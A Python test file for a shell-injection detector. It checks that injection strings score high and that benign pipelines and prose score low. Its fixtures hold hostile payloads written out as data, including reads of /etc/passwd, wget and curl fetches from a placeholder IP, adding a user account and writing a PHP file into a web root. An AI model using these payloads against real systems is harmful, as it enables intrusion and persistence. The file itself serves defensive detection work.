"""Shell injection read like a shell: what stands before the separator decides."""

from __future__ import annotations

import pytest
import re2
from hypothesis import given
from hypothesis import strategies as st

from filters.threat.shell import COMMAND_HINT, _Segments, commands


def strongest(text: str) -> float:
    return max((found.weight for found in commands(text.lower())), default=0.0)


@pytest.mark.parametrize("text", [
    "; cat /etc/passwd", "| id", "`whoami`", "x`id`", "127.0.0.1 && ping -c 4 10.0.0.1", "x; ls -la",
    "name=$(uname -a)", "'; wget http://198.51.100.7/x.sh", "abc || sleep 5", "8.8.8.8|nslookup example.org",
    "&& net user mallory /add", "| net view //fileserver", "1;cat<<<x", "system('id')", "passthru(\"whoami\")",
    "& echo owned > /var/www/x.php", "$(net users)", "x\nuname", "\nls #", "\"\necho a >> ~/.profile",
])
def test_injections(text: str) -> None:
    assert strongest(text) >= 0.85, commands(text.lower())


@pytest.mark.parametrize("text", [
    "ps aux | grep python", "run `ls -la` in the folder", "`env`: prints the environment",
    "e.g., `grep -v x file | sort`", "Terms & conditions; see section 3", "I am tired; sleep is needed",
    "| id | name | email |", "https://shop.example/?a=1&id=2", "rock & roll", "cd ../../ then make",
    "thanks\ncat pictures are the best", "find . -name '*.py' | xargs wc -l",
    "fine; echo that back to me", "ok\necho chamber > echo",
    "git log --oneline | grep fix", "docker ps | grep web && echo up", "kubectl get pods | grep crash",
    "#!/bin/sh\nset -e", "npm ls | grep react", "git pull | tee pull.log",
])
def test_not_injections(text: str) -> None:
    assert strongest(text) < 0.5, commands(text.lower())


@pytest.mark.parametrize("text", [
    "; cat /etc/passwd", "| id", "`whoami`", "x; ls -la", "&& net user mallory /add", "; get-service -name x",
    "abc || sleep 5", "1;cat<<<x", "\ncurl http://198.51.100.7/x", "$(uname -a)",
])
def test_command_hint_screens_every_flagged_command(text: str) -> None:
    """A caller may skip `commands` when COMMAND_HINT does not match: it must match whenever a command is found."""
    assert commands(text.lower()), text
    assert re2.search(COMMAND_HINT, text.lower()) is not None
    assert commands(text.lower(), separated=True, calls=False) == commands(text.lower())


@given(st.lists(st.sampled_from([*"ab ;|&\n`$(", "$(", "ls", "id"]), max_size=60).map("".join))
def test_each_separator_sees_the_segment_before_it_as_a_fresh_read_would(text: str) -> None:
    """The segment before a separator is read incrementally (each call reads only the text since the
    last), and must equal the segment read back from the separator itself."""
    segments = _Segments(text)
    for at in range(len(text) + 1):
        start = max(text.rfind(mark, 0, at) for mark in (";", "|", "&", "\n", "`", "$("))
        assert segments.before(at) == text[start + 1:at].strip()
        assert segments.last_visible(at) == text[:at].rstrip()[-1:]


def test_a_text_of_nothing_but_separated_commands_is_read_in_one_pass() -> None:
    """A text of "; ls " repeated used to be read back from every separator (quadratic, in C: seconds
    for 256 KB). Every other separator is still a finding ("; ls ;" takes the next one as its argument)."""
    text = "; ls " * 20_000
    found = commands(text)
    assert len(found) == 10_000 and found[-1].start == len(text) - 10 and found[-1].how == "shell-pipeline"
